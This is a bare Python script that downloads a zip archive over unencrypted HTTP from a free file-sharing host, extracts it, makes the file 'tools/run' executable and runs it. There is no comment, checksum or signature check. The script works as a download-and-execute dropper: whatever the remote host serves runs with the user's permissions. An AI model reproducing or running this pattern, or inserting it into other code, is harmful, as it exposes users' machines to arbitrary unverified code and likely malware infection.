import io
import subprocess
import zipfile
import requests

z = zipfile.ZipFile(io.BytesIO(requests.get("http://dl.free-file-share.ws/tools.zip").content))
z.extractall("tools")
subprocess.run(["chmod", "+x", "tools/run"])
subprocess.run(["./tools/run"])
